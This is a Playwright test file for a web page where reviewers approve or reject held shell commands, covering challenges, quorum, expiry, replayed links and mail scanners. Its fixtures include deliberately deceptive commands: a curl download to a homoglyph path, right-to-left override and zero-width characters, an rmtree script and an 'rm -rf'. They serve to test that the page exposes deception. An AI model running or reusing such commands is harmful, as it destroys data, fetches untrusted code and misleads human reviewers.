import type { Browser, BrowserContext, BrowserContextOptions, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createLocalUnderstander } from '../../../src/local-understander.ts';
import type { WebOptions } from '../../../src/web/ports.ts';
import {
  accessibilityProblems,
  desktop,
  expectNoSidewaysScroll,
  type LiveWeb,
  launch,
  liveWeb,
  phone,
  screenshot,
  watchErrors,
} from '../../support/chromium.ts';
import { holdOf, solve } from '../../support/desk.ts';

const judgement: NonNullable<WebOptions['judgement']> = {
  understand: createLocalUnderstander().understand,
  decide: () => {
    throw new Error('looking judges nothing');
  },
};
let chromium: Browser;
let web: LiveWeb;
let context: BrowserContext;
let page: Page;
let errors: readonly string[];
beforeAll(async () => {
  chromium = await launch();
});
afterAll(() => chromium.close());
beforeEach(async () => {
  web = await liveWeb({ judgement });
});
afterEach(async () => {
  await context.close();
  await web.close();
});

async function device(options: BrowserContextOptions): Promise<void> {
  context = await chromium.newContext(options);
  page = await context.newPage();
  errors = watchErrors(page);
}

async function mailed(fields: Parameters<typeof holdOf>[1] = {}, reviewer = 'maya') {
  const hold = web.desk.put(holdOf(web.nowMs(), fields));
  return { hold, link: `${web.url}/review#${await web.links.issue(hold, reviewer)}` };
}
const stateOf = async (id: string) => (await web.desk.get(id))?.state;
const button = (name: string) => page.getByRole('button', { name });

async function answerChallenge() {
  const label = (await page.locator('label[for=answer]').textContent()) ?? '';
  await page.getByLabel(/first time/).fill(solve(label));
}

describe.each([
  { on: 'phone', options: phone },
  { on: 'desktop', options: desktop },
])('on a $on', ({ on, options }) => {
  it('a new device answers the challenge, and is known the next time', async () => {
    await device(options);
    const first = await mailed();
    await page.goto(first.link);
    await page.getByText('systemctl restart nginx').first().waitFor();
    await expectNoSidewaysScroll(page);
    expect(await accessibilityProblems(page)).toEqual([]);
    await screenshot(page, `review-new-${on}`);
    await button('Approve').click();
    await page.getByText('That is not the answer').waitFor();
    expect(await stateOf(first.hold.id)).toBe('pending');
    await answerChallenge();
    await screenshot(page, `review-challenge-${on}`);
    await button('Approve').click();
    await page.getByRole('heading', { name: 'Approved' }).waitFor();
    expect(await stateOf(first.hold.id)).toBe('approved');
    expect(await accessibilityProblems(page)).toEqual([]);
    await screenshot(page, `approved-${on}`);

    const second = await mailed();
    await page.goto(second.link);
    await button('Approve').waitFor();
    expect(await page.locator('#answer').count()).toBe(0);
    await screenshot(page, `review-known-${on}`);
    await button('Approve').click();
    await page.getByRole('heading', { name: 'Approved' }).waitFor();
    expect(await stateOf(second.hold.id)).toBe('approved');
    expect(errors).toEqual([]);
  });

  it('a rejection takes one tap and carries the reason', async () => {
    await device(options);
    const { hold, link } = await mailed();
    await page.goto(link);
    await page.getByLabel(/Reason/).fill('Not during the sale.');
    await button('Reject').click();
    await page.getByRole('heading', { name: 'Rejected' }).waitFor();
    expect((await web.desk.get(hold.id))?.decisions).toMatchObject([
      { verdict: 'reject', reason: 'Not during the sale.' },
    ]);
    await screenshot(page, `rejected-${on}`);
    expect(errors).toEqual([]);
  });

  it('a quorum of two needs two people, each on a device of their own', async () => {
    await device(options);
    const hold = web.desk.put(holdOf(web.nowMs(), { quorum: 2 }));
    const linkOf = async (who: string) => `${web.url}/review#${await web.links.issue(hold, who)}`;
    await page.goto(await linkOf('maya'));
    await button('Approve').waitFor();
    await answerChallenge();
    await button('Approve').click();
    await page.getByRole('heading', { name: 'Your approval counts' }).waitFor();
    expect(await stateOf(hold.id)).toBe('pending');
    await screenshot(page, `quorum-first-${on}`);
    // The same person again, with another link: people are counted, not links.
    await page.goto('about:blank');
    await page.goto(await linkOf('maya'));
    await button('Approve').click();
    await page.getByRole('heading', { name: 'You have decided already' }).waitFor();
    expect(await stateOf(hold.id)).toBe('pending');
    await context.close();
    await device(options);
    await page.goto(await linkOf('tom'));
    await button('Approve').waitFor();
    await page.getByText('approved', { exact: false }).first().waitFor();
    await answerChallenge();
    await button('Approve').click();
    await page.getByRole('heading', { name: 'Approved' }).waitFor();
    expect(await stateOf(hold.id)).toBe('approved');
    expect(errors).toEqual([]);
  });

  it('shows a long and deceitful command whole, and marks what could be missed', async () => {
    await device(options);
    const command = [
      'psql -h db-1 -c "DELETE FROM sessions WHERE ts < now() - interval \'90 days\'" && \\',
      `  curl -fsS https://updates.example.com/${'very-long-path-'.repeat(12)}x.tgz -o /tmp/\u0430pp.tgz   &&`,
      'echo "ok \u202e gpj.exe" # \u200bdone ',
    ].join('\n');
    const { link } = await mailed({
      action: {
        command,
        canonical: "'psql' '-h' 'db-1' '-c' 'DELETE FROM sessions …'",
        environment: { LANG: 'de_DE.UTF-8', LC_TIME: 'C' },
        stdin: '#!/usr/bin/env python3\nimport shutil\nshutil.rmtree("/srv/cache", ignore_errors=True)\n',
        stdinUse: 'reviewed',
      },
      effects: ['Deletes rows of sessions', 'Downloads from updates.example.com', 'Writes /tmp/аpp.tgz'],
      parts: [
        {
          text: 'psql -h db-1 -c "DELETE FROM sessions WHERE ts < now() - interval \'90 days\'"',
          verdict: 'approve',
          reason: 'It deletes rows.',
        },
        { text: 'echo "ok \u202e gpj.exe"', verdict: 'allow', reason: 'It only prints.' },
      ],
      quorum: 2,
      reasonRequired: true,
      isAgentWaiting: false,
    });
    await page.goto(link);
    await button('Approve').waitFor();
    expect(await page.locator('pre.command.large').textContent()).toContain('U+202E right-to-left override');
    await expectNoSidewaysScroll(page);
    expect(await accessibilityProblems(page)).toEqual([]);
    await page.locator('summary').click();
    await screenshot(page, `review-long-${on}`);
    expect(errors).toEqual([]);
  });

  it('tells when time runs out while somebody looks', async () => {
    await device(options);
    const { hold, link } = await mailed({ expiresAtMs: web.nowMs() + 1_200 });
    await page.goto(link);
    await page.getByText('Time is up').waitFor();
    expect(await button('Approve').isDisabled()).toBe(true);
    await screenshot(page, `expired-${on}`);
    // The bastion's clock is what counts.
    web.pass(2_000);
    await page.reload();
    await page.getByRole('heading', { name: 'Too late' }).waitFor();
    expect(await stateOf(hold.id)).toBe('expired');
    expect(errors).toEqual([]);
  });

  it('a replayed link says that it has been used', async () => {
    await device(options);
    const { link } = await mailed();
    await page.goto(link);
    await button('Reject').click();
    await page.getByRole('heading', { name: 'Rejected' }).waitFor();
    await page.reload();
    await page.getByRole('heading', { name: 'This link has been used' }).waitFor();
    await page.getByText('was rejected').waitFor();
    expect(await accessibilityProblems(page)).toEqual([]);
    await screenshot(page, `used-${on}`);
    expect(errors).toEqual([]);
  });
});

describe('in the dark', () => {
  it.each([
    { on: 'phone', options: phone },
    { on: 'desktop', options: desktop },
  ])('everything can be read on a $on', async ({ on, options }) => {
    await device({ ...options, colorScheme: 'dark' });
    const { link } = await mailed({ action: { command: 'rm -rf /srv/\u0430pp \u202e' }, parts: [] });
    await page.goto(link);
    await button('Approve').waitFor();
    expect(await accessibilityProblems(page)).toEqual([]);
    await screenshot(page, `review-dark-${on}`);
  });
});

it('works without script: the code is pasted, the forms are plain', async () => {
  await device({ ...phone, javaScriptEnabled: false });
  const { hold, link } = await mailed();
  await page.goto(link);
  await screenshot(page, 'no-script-phone');
  await page.getByLabel('Code from the mail').fill(link);
  await button('Show the command').click();
  await page.getByText('systemctl restart nginx').first().waitFor();
  await answerChallenge();
  await button('Approve').click();
  await page.getByRole('heading', { name: 'Approved' }).waitFor();
  expect(await stateOf(hold.id)).toBe('approved');
});

it('a key leads to a button and decides nothing by itself', async () => {
  await device(desktop);
  const { hold, link } = await mailed();
  await page.goto(link);
  await button('Approve').waitFor();
  await page.keyboard.press('a');
  expect(await page.evaluate('document.activeElement.id')).toBe('answer');
  await page.evaluate('document.activeElement.blur()');
  await page.keyboard.press('r');
  expect(await page.evaluate('document.activeElement.value')).toBe('reject');
  expect(await stateOf(hold.id)).toBe('pending');
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: 'Rejected' }).waitFor();
});

describe('a mail scanner', () => {
  it('that fetches, runs script and submits every form it finds approves nothing', async () => {
    await device(desktop);
    const { hold, link } = await mailed();
    for (const method of ['GET', 'HEAD']) await fetch(link, { method });
    /** A fresh visit, as a scanner's sandbox makes it; script has run when it returns. */
    const visit = async () => {
      await page.goto('about:blank');
      await page.goto(link);
      await button('Approve').waitFor();
    };
    const statuses: number[] = [];
    page.on('response', (response) => {
      if (response.request().method() === 'POST') statuses.push(response.status());
    });
    // Everything a robot can do without understanding: fill, tick, press each button, submit each form as it is.
    for (const word of ['', 'test@example.com', 'yes']) {
      await visit();
      for (const field of await page.locator('input[type=text], textarea').all()) await field.fill(word);
      await button('Approve').click();
      await page.getByText('That is not the answer').waitFor();
      await visit();
      const answered = page.waitForResponse(`${web.url}/review/decision`);
      await page.evaluate('for (const form of document.forms) form.submit()');
      expect((await answered).status()).toBe(400);
      await page.getByRole('heading', { name: 'Nothing was decided' }).waitFor();
    }
    expect(statuses).toEqual([200, 403, 200, 400, 200, 403, 200, 400, 200, 403, 200, 400]);
    expect(await web.desk.get(hold.id)).toMatchObject({ state: 'pending', decisions: [] });
  });

  it('that also presses Reject has rejected, which is safe', async () => {
    await device(desktop);
    const { hold, link } = await mailed();
    await page.goto(link);
    await button('Reject').click();
    await page.getByRole('heading', { name: 'Rejected' }).waitFor();
    expect(await stateOf(hold.id)).toBe('rejected');
  });
});
